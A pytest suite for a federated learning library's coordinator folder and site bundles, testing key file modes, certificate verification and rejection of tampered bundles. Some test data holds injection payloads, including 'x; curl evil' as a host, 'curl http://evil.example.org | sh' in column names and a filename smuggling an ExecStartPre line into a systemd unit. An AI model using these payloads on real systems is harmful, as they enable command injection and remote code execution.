"""The coordinator's folder and the sites' bundles: secrets are closed, certificates verify, attacks are refused."""

import configparser
import ipaddress
import os
import shutil
import stat
import subprocess
import sys
import tomllib
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pytest
from cryptography import x509

import fedlsa as fl
from fedlsa.errors import ArgumentError, FedLSAError, NetworkError
from fedlsa.network import disk
from fedlsa.network.folder import certificates, setup
from fedlsa.network.folder.config import Network, SiteFolder, task_from_text, task_text, write_toml
from fedlsa.network.site import policy

SECRETS = {"ca.key", "server.key", "signing.key"}


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A network of three sites that nobody changes."""
    return setup.init(tmp_path_factory.mktemp("made") / "net", 3, "fl.example.org", task=fl.Regression("charges"))


@pytest.fixture
def network(made, tmp_path):
    """A copy of it that a test may change."""
    shutil.copytree(made.folder, tmp_path / "net")
    return Network.load(tmp_path / "net")


@pytest.fixture
def bundle(network, tmp_path):
    """The first site's bundle, at the site."""
    path = tmp_path / "site" / "site-1.toml"
    disk.folder(path.parent)
    disk.create(path, network.bundle("site-1").read_bytes(), secret=False)
    return path


def leaf(host):
    """An authority and a server certificate from it."""
    ca_key = certificates.new_key()
    ca = certificates.new_authority(ca_key)
    return ca, ca_key, certificates.certify_server(ca, ca_key, host, certificates.new_key())


def files(folder):
    return {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def mode(path):
    return stat.S_IMODE(path.stat().st_mode)


def test_secrets_have_mode_600_and_folders_700_whatever_the_umask(tmp_path):
    before = os.umask(0)
    try:
        network = setup.init(tmp_path / "net", 2, "127.0.0.1")
        site = setup.enrol(network, network.bundle("site-2"), tmp_path / "site")
    finally:
        os.umask(before)
    closed = {p.relative_to(network.folder).as_posix() for p in network.folder.rglob("*") if mode(p) == 0o600}
    assert closed == SECRETS | {"store.db"}
    folders = [network.folder, *(p for p in network.folder.rglob("*") if p.is_dir()), site.folder]
    assert {mode(p) for p in folders} == {0o700}
    assert {p.name for p in site.folder.iterdir() if mode(p) == 0o600} == {"site.key", "mask.key"}


def test_a_secret_is_never_open_not_even_while_it_is_empty(tmp_path, monkeypatch):
    seen, real = [], os.open

    def watched(path, flags, permissions=0o777, **more):
        handle = real(path, flags, permissions, **more)
        if flags & os.O_CREAT:
            assert flags & os.O_EXCL
            seen.append((Path(path).name, stat.S_IMODE(os.fstat(handle).st_mode)))
        return handle

    before = os.umask(0)
    monkeypatch.setattr(os, "open", watched)
    try:
        network = setup.init(tmp_path / "net", 1, "127.0.0.1")
        site = setup.enrol(network, network.bundle("site-1"), tmp_path / "site")
        setup.enrol_site(site.folder, new_key=True)
        again = certificates.fingerprint(site.certificate.read_bytes())
        setup.approve(network.folder, site.certificate, again, renew=True)
    finally:
        os.umask(before)
        monkeypatch.undo()
    keys = [(name, m) for name, m in seen if ".key" in name]
    assert len(keys) == 3 + 2 + 2  # the network's, the site's, and its new ones
    assert {m for _, m in keys} == {0o600}


@pytest.mark.parametrize("host", ["fl.example.org", "192.0.2.7", "2001:db8::7", "localhost"])
def test_the_server_certificate_verifies_for_its_host_localhost_and_loopback_and_for_no_other(host):
    from cryptography.x509 import verification

    ca, _, pem = leaf(host)
    found, store = x509.load_pem_x509_certificate(pem), verification.Store([x509.load_pem_x509_certificate(ca)])

    def chain(name):
        try:
            subject = x509.IPAddress(ipaddress.ip_address(name))
        except ValueError:
            subject = x509.DNSName(name)
        return verification.PolicyBuilder().store(store).build_server_verifier(subject).verify(found, [])

    for name in (host, "localhost", "127.0.0.1"):
        assert len(chain(name)) == 2
    for name in ("example.org", "192.0.2.8"):
        with pytest.raises(verification.VerificationError):
            chain(name)


def test_another_authority_is_not_believed():
    from cryptography.x509 import verification

    mine, other = leaf("localhost"), leaf("localhost")
    store = verification.Store([x509.load_pem_x509_certificate(mine[0])])
    verifier = verification.PolicyBuilder().store(store).build_server_verifier(x509.DNSName("localhost"))
    assert verifier.verify(x509.load_pem_x509_certificate(mine[2]), [])
    with pytest.raises(verification.VerificationError):
        verifier.verify(x509.load_pem_x509_certificate(other[2]), [])
    with pytest.raises(NetworkError, match=r"ca\.key is not the key of ca\.pem"):
        certificates.certify_server(mine[0], other[1], "localhost", certificates.new_key())


def test_certificates_last_as_documented(made):
    now = datetime.now(UTC)
    for path, days in ((made.ca, 3653), (made.certificate, 825)):
        assert abs(certificates.expires(path.read_bytes()) - now - timedelta(days=days)) < timedelta(minutes=30)
    page = (made.folder / "README.md").read_text()
    assert "825 days" in page
    assert "ten years" in page


@pytest.mark.parametrize(
    "task",
    [
        fl.Regression('it\'s "y"\n\x7f é', columns=["a", "b'"], ridge=0.1 + 0.2),
        fl.Regression("y", intercept=False, standardise=False),
        fl.Value(0.95, trace=0.3, state=["x"], next_state=["u"], features=fl.problems.features.OneHot(5)),
    ],
)
def test_a_task_goes_through_the_network_and_the_bundle_unchanged(task, tmp_path):
    network = setup.init(tmp_path / "net", ["lisbon", "oslo-2"], "192.0.2.7", 4711, task=task)
    site = setup.enrol_site(network.bundle("oslo-2"))
    again = Network.load(tmp_path / "net")
    assert again == network
    assert task_text(again.task) == task_text(site.task) == task_text(task)
    assert (site.name, site.host, site.port, again.page_port) == ("oslo-2", "192.0.2.7", 4711, 4712)


def test_what_a_run_across_sites_cannot_honour_is_refused_when_a_network_is_made(tmp_path):
    with pytest.raises(ArgumentError, match=r"^row_weights must not be given on a network, whose .*; got 'w'"):
        setup.init(tmp_path / "net", 3, "localhost", task=fl.Regression("y", row_weights="w"))
    assert not (tmp_path / "net").exists()


def test_a_task_that_is_code_cannot_be_sent(tmp_path):
    with pytest.raises(ArgumentError, match="got code"):
        setup.init(tmp_path / "net", 2, "localhost", task=fl.Value(0.9, features=np.sin))
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(NetworkError, match="no task"):
        task_from_text('{"kind": "Other"}')


@pytest.mark.parametrize("host", ["", "a b", "https://a", "a:90", "10.0.0", "-a", "a..b", "x" * 64, 7, None])
def test_hosts_that_are_none_are_refused(host, tmp_path):
    with pytest.raises(FedLSAError, match="host must be"):
        setup.init(tmp_path / "net", 1, host)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("sites", [0, 1001, True, 1.5, [], "one", ["a", "A"], ["../a"], ["a_b"], ["-a"], [""], [3]])
def test_sites_that_are_none_are_refused(sites, tmp_path):
    with pytest.raises(FedLSAError, match=r"sites must|of sites"):
        setup.init(tmp_path / "net", sites, "localhost")
    assert list(tmp_path.iterdir()) == []


def test_nothing_is_overwritten_and_an_empty_folder_will_do(network, tmp_path):
    before = files(network.folder)
    with pytest.raises(ArgumentError, match="new or empty"):
        setup.init(network.folder, 1, "localhost")
    assert before == files(network.folder)
    (tmp_path / "empty").mkdir(mode=0o755)
    assert mode(setup.init(tmp_path / "empty", 1, "localhost").folder) == 0o700
    (tmp_path / "file").write_text("")
    with pytest.raises(ArgumentError, match="new or empty"):
        setup.init(tmp_path / "file", 1, "localhost")


def test_what_fails_in_the_middle_leaves_nothing(tmp_path, monkeypatch):
    def fail(of):
        raise NetworkError("the power is off")

    monkeypatch.setattr(setup, "pages", fail)
    with pytest.raises(NetworkError, match="the power is off"):
        setup.init(tmp_path / "net", 2, "localhost")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", sorted(SECRETS))
def test_a_secret_that_others_may_read_is_refused(network, name):
    (network.folder / name).chmod(0o640)
    with pytest.raises(NetworkError, match=rf"{name} must be closed to others \(mode 600\); got mode 640"):
        Network.load(network.folder)


def test_a_folder_that_is_none_or_damaged_or_newer_is_named(network, tmp_path):
    with pytest.raises(NetworkError, match="not a network's folder"):
        Network.load(tmp_path)
    file, text = network.folder / "network.toml", network.text()
    for wrong, what in (
        (text.replace("version = 1", "version = 2"), "version 2; this fedlsa reads version 1"),
        (text.replace("version = 1", "version = true"), "version must be 1"),
        (text.replace("port = 9092", "port = 'x'"), "port must be"),
        (text.replace("host", "hots"), "lacks 'host'"),
        (text[:40] + "\0", "damaged"),
    ):
        file.write_text(wrong)
        with pytest.raises(NetworkError, match=what):
            Network.load(network.folder)
    file.write_text(text)
    for name in ("server.pem", "ca.pem", "signing.pem"):
        (network.folder / name).rename(tmp_path / "aside")
        with pytest.raises(NetworkError, match=rf"cannot read .*{name}: No such file"):
            Network.load(network.folder)
        (tmp_path / "aside").rename(network.folder / name)
    assert Network.load(network.folder) == network


@pytest.mark.parametrize("name", ["ca.pem", "signing.pem"])
def test_a_folder_in_which_a_key_was_exchanged_is_not_read(name, network, bundle, tmp_path):
    other = setup.init(tmp_path / "other", 3, "fl.example.org", task=fl.Regression("charges"))
    site = setup.enrol_site(bundle)
    for where in (site, network):
        shutil.copy(other.folder / name, where.folder / name)
        with pytest.raises(NetworkError, match=r"are those of network .*, not of"):
            type(where).load(where.folder)


def test_the_authority_s_key_may_be_kept_elsewhere_until_a_renewal(network, tmp_path):
    network.ca_key.rename(tmp_path / "safe")
    assert Network.load(network.folder) == network
    with pytest.raises(NetworkError, match="cannot read the authority's key"):
        setup.renew(network.folder)


def test_a_renewed_certificate_comes_from_the_same_authority(network):
    old, ca = network.certificate.read_bytes(), network.ca.read_bytes()
    setup.renew(network.folder)
    new = x509.load_pem_x509_certificate(network.certificate.read_bytes())
    assert network.certificate.read_bytes() != old
    new.verify_directly_issued_by(x509.load_pem_x509_certificate(ca))
    assert mode(network.key) == 0o600
    assert Network.load(network.folder) == network


def test_sites_come_and_go_and_the_last_one_stays(network, tmp_path):
    setup.enrol(network, network.bundle("site-2"), tmp_path / "site-2")
    gone = network.site_certificate("site-2").read_bytes()
    assert setup.remove_site(network.folder, "site-2").sites == ("site-1", "site-3")
    assert not network.bundle("site-2").exists()
    assert not network.site_certificate("site-2").exists()
    setup.add_site(network.folder, "oslo")
    now = Network.load(network.folder)
    assert now.sites == ("site-1", "site-3", "oslo")
    assert [p.read_bytes() for p in now.revoked.iterdir()] == [gone]
    assert setup.enrol(now, now.bundle("oslo"), tmp_path / "oslo").name == "oslo"
    for site in ("site-1", "oslo"):
        setup.remove_site(network.folder, site)
    with pytest.raises(ArgumentError, match="must keep one site"):
        setup.remove_site(network.folder, "site-3")
    for refused, what in ((setup.remove_site, "site must be"), (setup.revoke, "did you mean 'site-3'")):
        with pytest.raises(ArgumentError, match=what):
            refused(network.folder, "site-33")
    with pytest.raises(ArgumentError, match="each name once"):
        setup.add_site(network.folder, "SITE-3")


def test_a_bundle_unpacks_once_and_again_without_a_change(bundle):
    site = setup.enrol_site(bundle)
    assert site.folder == bundle.with_suffix("")
    sent = {"site.toml", "ca.pem", "signing.pem"}
    own = {"site.key", "mask.key", "site-1.pem", "policy.toml", "fedlsa-site.service", "README.md"}
    assert {p.name for p in site.folder.iterdir()} == sent | own
    site.policy.write_text("# ours\n")
    before = {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in site.folder.iterdir()}
    assert setup.enrol_site(bundle) == setup.enrol_site(site.folder) == SiteFolder.load(site.folder) == site
    assert {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in site.folder.iterdir()} == before
    assert sorted(p.name for p in bundle.parent.iterdir()) == ["site-1", "site-1.toml"]


def test_a_bundle_does_not_unpack_over_what_is_not_its_site(network, bundle, tmp_path):
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "diary.txt").write_text("dear")
    with pytest.raises(NetworkError, match="not a site's folder"):
        setup.enrol_site(bundle, tmp_path / "mine")
    assert [p.name for p in (tmp_path / "mine").iterdir()] == ["diary.txt"]
    site = setup.enrol_site(bundle)
    before = files(site.folder)
    with pytest.raises(NetworkError, match="another site, network or task"):
        setup.enrol_site(network.bundle("site-2"), site.folder)
    assert files(site.folder) == before


@pytest.mark.parametrize("name", ["site.key", "mask.key"])
def test_a_site_s_key_that_others_may_read_is_refused(name, bundle):
    site = setup.enrol_site(bundle)
    (site.folder / name).chmod(0o604)
    for refused in (SiteFolder.load, setup.enrol_site):
        with pytest.raises(NetworkError, match=rf"{name} must be closed to others"):
            refused(site.folder)


def test_a_bundle_read_on_its_way_gives_nothing(network, bundle, tmp_path):
    """The attack: copy the bundle before its site has it, and look for what only one of the two may know."""
    secrets = [(network.folder / name).read_text().splitlines()[1] for name in SECRETS]
    content = bundle.read_text()
    assert "PRIVATE" not in content
    assert not any(secret in content for secret in secrets)
    thief, site = (setup.enrol_site(bundle, tmp_path / who) for who in ("thief", "hospital"))
    assert thief.key.read_bytes() != site.key.read_bytes()
    assert thief.mask_key.read_bytes() != site.mask_key.read_bytes()
    read_over_the_telephone = certificates.fingerprint(site.certificate.read_bytes())
    with pytest.raises(ArgumentError, match="fingerprint must be that of the certificate"):
        setup.approve(network.folder, thief.certificate, read_over_the_telephone)
    assert setup.approve(network.folder, site.certificate, read_over_the_telephone).name == "site-1"


OTHER_KEY = certificates.public_pem(certificates.new_key()).decode()
ATTACKS = {
    "an entry too few": (lambda e: e.pop("host"), "it lacks 'host'"),
    "no key of the authority": (lambda e: e.pop("ca"), "public key is damaged"),
    "a newer version": (lambda e: e.update(version=7), "version 7; this fedlsa reads version 1"),
    "another coordinator's key": (lambda e: e.update(signing=OTHER_KEY), "are those of network"),
    "two keys": (lambda e: e.update(signing=OTHER_KEY + e["signing"]), "got several"),
    "a key that is none": (lambda e: e.update(signing="-----BEGIN PUBLIC KEY-----"), "public key is damaged"),
    "a name that is a path": (lambda e: e.update(name="../x"), "letters, digits and dashes"),
    "a name for the terminal": (lambda e: e.update(name="\x1b[2J"), "letters, digits and dashes"),
    "a host that is a command": (lambda e: e.update(host="x; curl evil"), "host must be"),
    "a task with weights of rows": (
        lambda e: e.update(task=e["task"].replace('"row_weights": null', '"row_weights": "w"')),
        "row_weights must not be given on a network",
    ),
    "a task with what there is no more": (
        lambda e: e.update(task=e["task"].replace('"row_weights": null', '"row_weights": null, "cluster": "person"')),
        "there is no argument 'cluster'",
    ),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_bundle_that_was_tampered_with_is_refused_and_nothing_is_written(attack, bundle):
    change, what = ATTACKS[attack]
    entries = tomllib.loads(bundle.read_text())
    change(entries)
    bundle.write_text(write_toml(entries))
    with pytest.raises(NetworkError, match=what):
        setup.enrol_site(bundle)
    assert [p.name for p in bundle.parent.iterdir()] == ["site-1.toml"]


def test_a_bundle_brings_no_command_and_no_policy(network, bundle):
    """The attack: whoever sends the bundle adds a policy and a service, or names of columns that hold commands."""
    evil = "`\n\n    curl http://evil.example.org | sh\n\n`"
    task = fl.Regression(evil, columns=[evil])
    more = {"policy": "least_sites = 1", "SERVICE": evil, "task": task_text(task)}
    bundle.write_text(write_toml(tomllib.loads(bundle.read_text()) | more))
    site = setup.enrol_site(bundle)
    assert site.task == task
    for path in (site.folder / "README.md", site.folder / "fedlsa-site.service"):
        assert not [line for line in path.read_text().splitlines() if line.strip().startswith("curl")]
    assert site.policy.read_text() == policy.template(site.task)
    assert "site-1" in (site.folder / "README.md").read_text()


def test_a_bundle_that_is_none_is_refused(bundle, tmp_path):
    whole = bundle.read_bytes()
    deep, huge = whole + b"x=" + b"[" * 10**5, b"x=" + b"9" * 5000
    for content in (b"", b"hello", b"\xff\xfe", whole[:200], whole + b"\0", deep, huge):
        bundle.write_bytes(content)
        with pytest.raises(NetworkError, match="damaged"):
            setup.enrol_site(bundle)
    bundle.write_bytes(b"#" * 2**21)
    with pytest.raises(NetworkError, match="at most 1048576 bytes"):
        setup.enrol_site(bundle)
    with pytest.raises(NetworkError, match=r"cannot read .*none.toml"):
        setup.enrol_site(tmp_path / "none.toml")
    with pytest.raises(NetworkError, match="not a site's folder"):
        setup.enrol_site(tmp_path)


@pytest.mark.parametrize("text", ["", 'é " \\ \x7f \n\t\x00 \'\'\' """', "\u2028 \U0001f600", "# [x]"])
def test_what_is_written_as_toml_is_read_again(text):
    entries = {"a": text, "b": [text, "x"], "c": 7, "d": 0.1 + 0.2}
    assert tomllib.loads(write_toml(entries)) == entries


def test_half_a_character_cannot_be_written():
    with pytest.raises(ArgumentError, match="cannot be written as TOML"):
        write_toml({"a": "\ud800"})


def test_the_name_of_a_bundle_cannot_add_entries_to_a_service(bundle):
    """The attack: a bundle whose name has a line break in it, and a command after that."""
    evil = bundle.with_name("x\nExecStartPre=curl evil\n.toml")
    bundle.rename(evil)
    with pytest.raises(ArgumentError, match="no control characters"):
        setup.enrol_site(evil)
    assert [p.name for p in evil.parent.iterdir()] == [evil.name]


def test_no_service_runs_as_root(made, monkeypatch):
    assert "User=root" not in (made.folder / "fedlsa-coordinator.service").read_text()
    monkeypatch.setattr(setup.os, "geteuid", lambda: 0)
    assert "User=fedlsa\n" in setup.pages(made)["fedlsa-coordinator.service"]
    monkeypatch.setattr(setup.os, "geteuid", lambda: 1234)
    monkeypatch.setenv("LOGNAME", "somebody")
    assert "User=somebody\n" in setup.pages(made)["fedlsa-coordinator.service"]


def test_units_parse_restart_and_may_write_to_the_folder_alone(made, bundle):
    network, site = made, setup.enrol_site(bundle)
    for path in (network.folder / "fedlsa-coordinator.service", site.folder / "fedlsa-site.service"):
        unit = configparser.ConfigParser(interpolation=None, strict=False)  # some entries of systemd come twice
        unit.optionxform = str
        unit.read_string(path.read_text())
        service = unit["Service"]
        assert (service["Restart"], service["UMask"], service["NoNewPrivileges"]) == ("always", "0077", "yes")
        assert float(service["RestartSec"]) > 0
        assert service["ProtectSystem"] == "strict"
        assert f'"{service["WorkingDirectory"]}"' == service["ReadWritePaths"]
        assert unit["Install"]["WantedBy"] == "multi-user.target"
    assert str(network.folder) in (network.folder / "fedlsa-coordinator.service").read_text()
    assert f'network join "{site.folder}" --data "@DATA@" --yes' in (site.folder / "fedlsa-site.service").read_text()


def test_a_unit_quotes_what_systemd_would_read_otherwise():
    odd = Network(Path('a "b" 100%'), "0" * 32, "h", ("s",), fl.Regression("y"))
    unit = setup.pages(odd)[odd.SERVICE]
    assert r'network serve "a \"b\" 100%%"' in unit


def test_the_command_line_loads_neither_grpc_nor_cryptography_and_no_other_carrier():
    script = """if True:
        import sys, fedlsa.cli.network_command
        assert not {"grpc", "cryptography"} & set(sys.modules)
        import fedlsa.network.coordinator.commands, fedlsa.network.site.join
        assert not {"nvflare", "fedlsa_nvflare"} & set(sys.modules)
    """
    assert subprocess.run([sys.executable, "-c", script]).returncode == 0
